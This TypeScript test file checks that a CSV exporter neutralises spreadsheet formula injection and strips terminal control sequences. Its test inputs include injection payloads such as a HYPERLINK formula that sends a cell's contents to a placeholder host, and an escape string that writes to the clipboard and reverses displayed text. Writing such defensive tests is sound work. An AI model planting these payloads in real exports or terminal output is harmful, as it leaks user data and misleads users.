import { stringify } from "csv-stringify/sync";
import { expect, it } from "vitest";
import { csvOptions, type CsvStyle, isDelimiter } from "../../shared/csv.ts";

const cell = (value: unknown, style: CsvStyle = {}) =>
  stringify([[value]], csvOptions(style)).replace(/\r\n$/, "");

it.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "'=1",
  "-- x",
])("puts an apostrophe before %j, which a spreadsheet would run", (text) => {
  expect(cell(text)).toBe(`'${text}`);
  expect(cell(text, { raw: true })).toBe(text);
});

it.each([
  ["\t=1", `"'\t=1"`],
  ["\tx", `"'\tx"`],
  ["\rx", `"'\rx"`],
  ["\n=1", `"'\n=1"`],
  ['"=1', `"'""=1"`],
  ['=HYPERLINK("http://x/"&A1)', `"'=HYPERLINK(""http://x/""&A1)"`],
])("also where the cell is quoted: %j", (text, expected) => {
  expect(cell(text)).toBe(expected);
});

it.each([
  [-5, "-5"],
  [0, "0"],
  [true, "true"],
  [null, ""],
  ["a=b", "a=b"],
  ["u/x - y", "u/x - y"],
  [["=1"], `"[""=1""]"`],
  ["", ""],
])("leaves %j as it is", (value, expected) => {
  expect(cell(value)).toBe(expected);
});

it("quotes what another delimiter would cut", () => {
  expect(cell("a;=1")).toBe('"a;=1"');
});

it("prints no control characters where it is for a terminal", () => {
  const text = "a\u001b]52;c;A\u0007\u202eb\u009b1m";
  expect(cell(text)).toBe(`"${text}"`);
  expect(cell(text, { isPrinted: true })).toBe("a\ufffdb");
  expect(cell({ text }, { isPrinted: true })).toBe(
    '"{""text"":""a\\u001b]52;c;A\\u0007\\u202eb\\u009b1m""}"',
  );
});

it.each([",", ";", "\t", "|", " ", ":", "~", "é"])("%j is a delimiter", (text) => {
  expect(isDelimiter(text)).toBe(true);
});

it.each([
  "",
  '"',
  "\r",
  "\n",
  "\0",
  "\u0085",
  "\u2028",
  ",,",
  "\r\n",
  "😀",
  "\ud800",
  "=",
  "-",
  "+",
  "@",
  "＝",
])("%j is none", (text) => {
  expect(isDelimiter(text)).toBe(false);
});
